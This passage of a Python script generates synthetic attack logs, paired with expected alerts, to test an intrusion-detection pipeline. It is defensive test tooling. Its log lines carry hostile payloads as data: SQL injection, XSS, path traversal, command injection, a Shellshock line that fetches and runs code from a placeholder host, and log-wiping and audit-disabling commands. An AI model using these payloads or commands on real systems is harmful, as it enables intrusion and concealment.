    s.at(t + sec(30), 'db-hn-01', 'kernel', '[88153.100000] device eth0 entered promiscuous mode', 6)
    s.expect('audit.promiscuous_mode', dev='eth0')
    s.at(t + sec(60), 'db-hn-01', 'audispd', 'type=SYSCALL msg=audit(%d.004:5201): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=812 pid=9130 auid=33 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="kworkerd" exe="/dev/shm/.x/kworkerd" key="exec"' % int(t.timestamp()), 86)
    s.expect('audit.exec_from_tmp', exe='/dev/shm/.x/kworkerd')

    # covering tracks on db-hn-01, then rsyslog is stopped: the host falls silent
    t = T(2, 0) + j()
    s.at(t, 'db-hn-01', 'sudo', '  backup2 : TTY=pts/3 ; PWD=/root ; USER=root ; COMMAND=/usr/sbin/logrotate -f /etc/logrotate.conf', 85, procid=npid())
    s.expect('log.manual_rotation', command='/usr/sbin/logrotate -f /etc/logrotate.conf')
    s.at(t + sec(10), 'db-hn-01', 'sudo', '  backup2 : TTY=pts/3 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/truncate -s 0 /var/log/auth.log', 85, procid=npid())
    s.expect('log.cleared', command='/usr/bin/truncate -s 0 /var/log/auth.log')
    s.at(t + sec(20), 'db-hn-01', 'audispd', 'type=CONFIG_CHANGE msg=audit(%d.010:7010): auid=1002 ses=3 op=set audit_enabled=0 old=1 res=1' % int(t.timestamp()), 86)
    s.expect('audit.disabled')
    s.at(t + sec(30), 'db-hn-01', 'audispd', 'type=MAC_STATUS msg=audit(%d.010:7020): enforcing=0 old_enforcing=1 auid=1002 ses=3 enabled=1 old-enabled=1 lsm=selinux res=1' % int(t.timestamp()), 86)
    s.expect('audit.selinux_disabled')
    s.at(t + sec(40), 'db-hn-01', 'systemd', 'Stopping auditd.service - Security Auditing Service...', 30, procid=1)
    s.at(t + sec(40), 'db-hn-01', 'auditd', 'The audit daemon is exiting.', 30, procid=701)
    s.expect('log.auditd_stopped', host='db-hn-01')
    s.at(t + sec(50), 'db-hn-01', 'systemd', 'Stopping rsyslog.service - System Logging Service...', 30, procid=1)
    s.at(t + sec(50), 'db-hn-01', 'rsyslogd', '[origin software="rsyslogd" swVersion="8.2302.0" x-pid="812" x-info="https://www.rsyslog.com"] exiting on signal 15.', 46)
    s.expect('log.syslog_stopped', host='db-hn-01')
    s.silent['db-hn-01'] = (t + sec(51), T(2, 45))
    s.expect('host.silent', host='db-hn-01')
    s.at(T(2, 45), 'db-hn-01', 'systemd', 'Started rsyslog.service - System Logging Service.', 30, procid=1)

    # web attacks against the portals, one source per kind
    def access(t, ip, req, status, ua='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0', host='portal-hn-01', tag='nginx'):
        local = t.astimezone(VN).strftime('%d/%b/%Y:%H:%M:%S +0700')
        s.at(t, host, tag, '%s - - [%s] "%s HTTP/1.1" %d %d "-" "%s"' % (ip, local, req, status, rnd.randrange(0, 5000), ua), 190)

    t = T(2, 10) + j()
    for i, q in enumerate(["GET /tra-cuu?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20",
                           "GET /tra-cuu?id=1%27%20AND%20SLEEP(5)--%20", "GET /tra-cuu?id=1%20AND%201=CONVERT(int,@@version)",
                           "GET /tra-cuu?id=1' OR '1'='1", "GET /tra-cuu?id=-1%20UNION%20ALL%20SELECT%20NULL,table_name%20FROM%20information_schema.tables"]):
        access(t + sec(20 * i), '198.51.100.50', q, 500 if i % 2 else 200)
    s.expect('web.sqli', src_ip='198.51.100.50')
    for i, q in enumerate(["GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "GET /search?q=%22%3E%3Csvg/onload=alert(1)%3E",
                           "GET /lien-he?ten=%3Cimg%20src=x%20onerror=prompt(1)%3E"]):
        access(t + sec(15 * i + 5), '198.51.100.51', q, 200)
    s.expect('web.xss', src_ip='198.51.100.51')
    for i, q in enumerate(["GET /download?file=../../../../etc/passwd", "GET /download?file=..%2f..%2f..%2fetc%2fshadow",
                           "GET /download?file=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini"]):
        access(t + sec(15 * i + 7), '198.51.100.52', q, 404)
    s.expect('web.path_traversal', src_ip='198.51.100.52')
    access(t + sec(9), '198.51.100.53', "GET /cgi-bin/ping.cgi?host=127.0.0.1%3Bcat%20/etc/passwd", 200)
    access(t + sec(29), '198.51.100.53', "GET /cgi-bin/status", 200, ua="() { :; }; /bin/bash -c 'wget -qO- http://198.51.100.53/x|sh'")
    s.expect('web.command_injection', src_ip='198.51.100.53')
    s.expect('web.path_traversal', src_ip='198.51.100.53')  # the injected command reads /etc/passwd
    access(t + sec(11), '198.51.100.54', "GET /index.php?page=http://198.51.100.54/shell.txt?", 200)
    access(t + sec(31), '198.51.100.54', "GET /index.php?page=php://filter/convert.base64-encode/resource=config", 200)
    s.expect('web.rfi', src_ip='198.51.100.54')
    for i, q in enumerate(["GET /.env", "GET /.git/config", "GET /backup.sql", "GET /wp-config.php.bak"]):
        access(t + sec(10 * i + 13), '198.51.100.55', q, 404, ua='curl/8.5.0')
    s.expect('web.sensitive_file_probe', src_ip='198.51.100.55')
    # Nikto: 55 plain requests in 50 s, all 404
    words = ['admin', 'administrator', 'login', 'manager', 'console', 'cgi-bin/test', 'cgi-bin/printenv.pl', 'old', 'temp',
             'test', 'demo', 'private', 'secret', 'portal', 'intranet', 'webmail', 'mail', 'owa', 'api/v0', 'v1', 'dev',
             'staging', 'beta', 'install', 'setup', 'upgrade', 'phpmyadmin', 'pma', 'mysql', 'sql', 'db', 'dbadmin',
             'jenkins', 'solr', 'kibana', 'grafana', 'nagios', 'zabbix', 'cacti', 'munin', 'status', 'stats', 'awstats',
             'report', 'reports', 'upload', 'uploads', 'files', 'images2', 'includes', 'inc', 'lib', 'scripts', 'tmp', 'logs']
    t2 = T(2, 20) + j()
    nik = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)'
    for i in range(55):
        access(t2 + sec(i * 0.9), '198.51.100.56', 'GET /%s/' % words[i], 404, ua=nik % (i + 1), host='ticket-hn-ga')
    s.expect('web.scanner', src_ip='198.51.100.56')
    s.expect('web.attack_burst', src_ip='198.51.100.56')
    s.expect('web.not_found_burst', src_ip='198.51.100.56')
    # probing protected areas: 12 refusals in 2 minutes (error log; 403 in the access log)
    t2 = T(2, 25) + j()
    for i in range(12):
        tt = t2 + sec(i * 10)
        access(tt, '198.51.100.57', 'GET /quan-tri/%s' % words[i], 403)
        s.at(tt, 'portal-hn-01', 'nginx', '%s [error] 812#812: *%d access forbidden by rule, client: 198.51.100.57, server: portal.example.vn, request: "GET /quan-tri/%s HTTP/1.1", host: "portal.example.vn"' % (tt.astimezone(VN).strftime('%Y/%m/%d %H:%M:%S'), 70000 + i, words[i]), 131)
    s.expect('web.access_denied_burst', src_ip='198.51.100.57')
    # ModSecurity on the Apache portal
    t2 = T(2, 30) + j()
    for i in range(2):
        tt = t2 + sec(i * 30)
        s.at(tt, 'web-sgn-t1', 'httpd', '[%s] [security2:error] [pid %d] [client 198.51.100.58:%d] [client 198.51.100.58] ModSecurity: Access denied with code 403 (phase 2). Operator GE matched 5 at TX:anomaly_score. [file "/usr/share/modsecurity-crs/rules/REQUEST-949-BLOCKING-EVALUATION.conf"] [line "81"] [id "949110"] [msg "Inbound Anomaly Score Exceeded (Total Score: 5)"] [hostname "web-sgn-t1"] [uri "/"] [unique_id "ZWQ%d"]' % (tt.astimezone(VN).strftime('%a %b %d %H:%M:%S.%f %Y'), npid(), 50200 + i, i), 131)
    s.expect('web.waf_block', src_ip='198.51.100.58')

    # network: port scan, host sweep, flood, device brute force, VPN
    t = T(2, 40) + j()
    for i, port in enumerate([21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 3306, 3389, 5432]):
        s.at(t + sec(i * 2), 'fw-hn-01', 'kernel', '[88200.%03d] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=198.51.100.60 DST=10.10.0.5 LEN=44 TOS=0x00 PREC=0x00 TTL=52 ID=%d PROTO=TCP SPT=61000 DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0' % (i, 1000 + i, port), 4)
    s.expect('fw.port_scan', src_ip='198.51.100.60')
    for i in range(25):
        s.at(t + sec(60 + i * 4), 'rtr-hn-01', None, '%d: *%s.%03d UTC: %%SEC-6-IPACCESSLOGP: list 101 denied tcp 198.51.100.61(%d) -> 10.30.0.%d(445), 1 packet' % (90000 + i, (t + sec(60 + i * 4)).strftime('%b %d %H:%M:%S'), i, 40000 + i, 100 + i), 190)
    s.expect('net.host_sweep', src_ip='198.51.100.61')
    s.at(t + sec(200), 'fw-hn-01', 'kernel', 'message repeated 350 times: [ [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=198.51.100.62 DST=10.10.0.53 LEN=76 TOS=0x00 PREC=0x00 TTL=52 ID=0 PROTO=UDP SPT=123 DPT=53 LEN=56]', 4)
    s.expect('fw.drop_flood', src_ip='198.51.100.62')
    for i, u in enumerate(['admin', 'cisco', 'admin', 'root', 'enable', 'netadmin']):
        tt = t + sec(240 + i * 15)
        s.at(tt, 'sw-hn-core', None, '%d: *%s.%03d UTC: %%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: %s] [Source: 198.51.100.63] [localport: 22] [Reason: Login Authentication Failed] at %s UTC %s' % (91000 + i, tt.strftime('%b %d %H:%M:%S'), i, u, tt.strftime('%H:%M:%S'), tt.strftime('%a %b %d %Y')), 188)
    s.expect('net.device_bruteforce', src_ip='198.51.100.63')
    tt = t + sec(240 + 6 * 15)
    s.at(tt, 'sw-hn-core', None, '%d: *%s.500 UTC: %%SEC_LOGIN-1-QUIET_MODE_ON: Still timeleft for watching failures is 95 secs, [user: netadmin] [Source: 198.51.100.63] [localport: 22] [Reason: Login Authentication Failed] [ACL: sl_def_acl] at %s UTC %s' % (91010, tt.strftime('%b %d %H:%M:%S'), tt.strftime('%H:%M:%S'), tt.strftime('%a %b %d %Y')), 185)
    s.expect('net.device_login_blocked', user='netadmin', src_ip='198.51.100.63')
    for i in range(6):
        s.at(t + sec(400 + i * 20), 'vpn-hn-01', 'openvpn', '198.51.100.64:%d TLS Auth Error: Auth Username/Password verification failed for peer' % (52000 + i), 29, procid=1201)
    s.expect('vpn.bruteforce', src_ip='198.51.100.64')
    for i, u in enumerate(['an.nv', 'binh.tt', 'cuong.lv', 'dung.pq', 'giang.ht', 'hoa.lt']):
        s.at(t + sec(600 + i * 90), 'asa-vpn-01', '%ASA-6-113005', 'AAA user authentication Rejected : reason = AAA failure : server = 10.1.1.5 : user = %s : user IP = 198.51.100.65' % u, 166)
    s.expect('vpn.password_spray', src_ip='198.51.100.65')

    # Windows
    t = T(3, 10) + j()
    for i in range(12):
        s.at(t + sec(i * 8), 'DC01', 'Microsoft-Windows-Security-Auditing', 'An account failed to log on.  Subject:  Security ID: S-1-0-0  Account Name: -  Account Domain: -  Logon ID: 0x0  Logon Type: 3  Account For Which Logon Failed:  Security ID: S-1-0-0  Account Name: administrator  Account Domain: BGTVT  Failure Information:  Failure Reason: Unknown user name or bad password.  Status: 0xC000006D  Sub Status: 0xC000006A  Network Information:  Workstation Name: KALI  Source Network Address: 198.51.100.70  Source Port: 0', 13, procid=636)
    s.expect('win.logon_failure_burst', src_ip='198.51.100.70')
    for i, u in enumerate(['an.nv', 'binh.tt', 'cuong.lv', 'dung.pq', 'giang.ht', 'hoa.lt']):
        s.at(t + sec(30 * i + 3), 'DC01', 'Microsoft-Windows-Security-Auditing', 'An account failed to log on.  Subject:  Security ID: S-1-0-0  Account Name: -  Account Domain: -  Logon ID: 0x0  Logon Type: 3  Account For Which Logon Failed:  Security ID: S-1-0-0  Account Name: %s  Account Domain: BGTVT  Failure Information:  Failure Reason: Unknown user name or bad password.  Status: 0xC000006D  Sub Status: 0xC000006A  Network Information:  Workstation Name: -  Source Network Address: 198.51.100.71  Source Port: 0' % u, 13, procid=636)
    s.expect('win.logon_failure_spray', src_ip='198.51.100.71')
    t += sec(300)
    s.at(t, 'WS-042', 'Microsoft-Windows-Security-Auditing', 'A logon was attempted using explicit credentials.  Subject:  Security ID: S-1-5-21-1-2-3-1105  Account Name: thu.nt  Account Domain: BGTVT  Logon ID: 0x3E7A1  Account Whose Credentials Were Used:  Account Name: adm.hung  Account Domain: BGTVT  Target Server:  Target Server Name: FS01.bgtvt.local  Additional Information: FS01.bgtvt.local  Process Information:  Process ID: 0x1a2c  Process Name: C:\\Windows\\System32\\net.exe  Network Information:  Network Address: -  Port: -', 13, procid=636)
    s.expect('win.explicit_credentials', user='adm.hung', target='FS01.bgtvt.local')
    s.at(t + sec(30), 'DC01', 'Microsoft-Windows-Security-Auditing', 'A user account was created.  Subject:  Security ID: S-1-5-21-1-2-3-500  Account Name: Administrator  Account Domain: BGTVT  Logon ID: 0x5A3F1  New Account:  Security ID: S-1-5-21-1-2-3-1290  Account Name: svc_backup2  Account Domain: BGTVT  Attributes:  SAM Account Name: svc_backup2', 13, procid=636)
    s.expect('win.user_created', user='svc_backup2')
    s.at(t + sec(60), 'SRV-APP1', 'Microsoft-Windows-Security-Auditing', 'A member was added to a security-enabled local group.  Subject:  Security ID: S-1-5-21-1-2-3-500  Account Name: Administrator  Account Domain: BGTVT  Logon ID: 0x5A3F1  Member:  Security ID: S-1-5-21-1-2-3-1290  Account Name: -  Group:  Security ID: S-1-5-32-544  Group Name: Administrators  Group Domain: Builtin  Additional Information:  Privileges: -', 13, procid=636)
    s.expect('win.privileged_group_add', group='Administrators')
    s.at(t + sec(90), 'SRV-APP1', 'Service Control Manager', 'A service was installed in the system.  Service Name:  Zabbix Agent 2  Service File Name:  "C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.exe" --config "C:\\Program Files\\Zabbix Agent 2\\zabbix_agent2.conf"  Service Type:  user mode service  Service Start Type:  auto start  Service Account:  LocalSystem', 13, procid=640)
    s.expect('win.service_installed', service='Zabbix Agent 2')
    tt = t + sec(120)
    n = 990001
    s.at(tt, 'SRV-FILE1', None, 'MSWinEventLog\t1\tSystem\t%d\t%s\t7045\tService Control Manager\tN/A\tN/A\tInformation\tSRV-FILE1.bgtvt.local\tNone\t\tA service was installed in the system.    Service Name:  PSEXESVC   Service File Name:  %%SystemRoot%%\\PSEXESVC.exe   Service Type:  user mode service   Service Start Type:  demand start   Service Account:  LocalSystem\t%d' % (n, tt.astimezone(VN).strftime('%a %b %d %H:%M:%S %Y'), n), 13)
    s.expect('win.service_installed', service='PSEXESVC')
    s.expect('win.suspicious_service', service='PSEXESVC')
    s.at(t + sec(150), 'DC01', 'Microsoft-Windows-Eventlog', 'The audit log was cleared.  Subject:  Security ID: S-1-5-21-1-2-3-500  Account Name: Administrator  Domain Name: BGTVT  Logon ID: 0x5A3F1', 13, procid=912)
    s.expect('win.audit_log_cleared', user='Administrator')

    # threat intelligence
    t = T(3, 30) + j()
    s.at(t, 'dns-hn-01', 'dnsmasq', 'query[A] beacon.malware-c2.example from 10.20.4.7', 30, procid=811)
    s.at(t, 'dns-hn-01', 'dnsmasq', 'forwarded beacon.malware-c2.example to 1.1.1.1', 30, procid=811)
    s.expect('intel.watchlist_domain', domain='beacon.malware-c2.example')
    s.at(t + sec(2), 'fw-hn-01', 'kernel', '[88999.001] [UFW BLOCK] IN=eth1 OUT=eth0 MAC=52:54:00:aa:bb:cc:52:54:00:dd:ee:ff:08:00 SRC=10.20.4.7 DST=203.0.113.66 LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID=4242 DF PROTO=TCP SPT=51000 DPT=443 WINDOW=64240 RES=0x00 SYN URGP=0', 4)
    s.expect('intel.watchlist_ip_dst', dst_ip='203.0.113.66')
    access(t + sec(30), '198.51.100.200', 'GET /lich-trinh?ga-di=HN&ga-den=SG&ngay=2026-11-27', 200)
    s.expect('intel.watchlist_ip', src_ip='198.51.100.200')


# ---- corpus conversion ------------------------------------------------------------------

MONTHS = {m: i for i, m in enumerate('Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec'.split(), 1)}


def corpus(kind, path):
    data = open(path, 'rb').read().decode('latin-1')
    lines = [l.rstrip('\r') for l in data.split('\n')]
    lines = [l for l in lines if l]
    out = []
    if kind == 'plain':
        out = lines
    elif kind == 'thunderbird':
        # "- 1131566461 2005.11.09 dn228 Nov 9 12:01:01 dn228/dn228 crond[1]: ..."
        for l in lines:
            rest = l.split(' ', 4)[4]
            out.append(re.sub(r'^(\S+ +\d+ \S+) ([^/ ]+)/\S+', r'\1 \2', rest))
    elif kind == 'apache_error':
        # "[Sun Dec 04 04:47:44 2005] [error] ...": an httpd on host web-apache
        sev = {'emerg': 0, 'alert': 1, 'crit': 2, 'error': 3, 'warn': 4, 'notice': 5, 'info': 6, 'debug': 7}
        for l in lines:
            m = re.match(r'\[\w+ (\w+) (\d+) (\d+:\d+:\d+) \d+\] \[(\w+)\]', l)
            out.append('<%d>%s %2d %s web-apache httpd: %s' % (16 * 8 + sev.get(m.group(4), 6), m.group(1), int(m.group(2)), m.group(3), l))
    elif kind in ('access', 'access_unsorted'):
        # the files wrap each line in an extra pair of quotes; acunetix.txt is not in
        # time order, so 'access' sorts by time as a live server would send
        rows = []
        for l in lines:
            if l.startswith('"') and l.endswith('"'):
                l = l[1:-1]
            m = re.search(r'\[(\d+)/(\w+)/(\d+):(\d+:\d+:\d+) ', l)
            key = (int(m.group(3)), MONTHS[m.group(2)], int(m.group(1)), m.group(4))
            rows.append((key, '<190>%s %2d %s dvwa-lab apache2: %s' % (m.group(2), int(m.group(1)), m.group(4), l)))
        if kind == 'access':
            rows.sort(key=lambda r: r[0])
        out = [r[1] for r in rows]
    else:
        sys.exit('unknown corpus kind %r' % kind)
    sys.stdout.write('\n'.join(out) + '\n')


def main():
    if len(sys.argv) > 1 and sys.argv[1] == 'corpus':
        if len(sys.argv) != 4:
            sys.exit('usage: gen_attacks.py corpus KIND FILE')
        corpus(sys.argv[2], sys.argv[3])
        return
    ap = argparse.ArgumentParser(description=__doc__.split('\n\n')[0])
    ap.add_argument('--seed', type=int, default=1)
    ap.add_argument('--out', default='.')
    a = ap.parse_args()
    rnd = random.Random(a.seed)
    s = Stream(rnd)
    inject(s, random.Random(a.seed * 7919 + 1))
    background(s, rnd)
    n = s.write(a.out)
    print('gen_attacks: %d lines, %d expected alert groups, seed %d -> %s' % (n, len(s.expected), a.seed, a.out), file=sys.stderr)


if __name__ == '__main__':
    main()
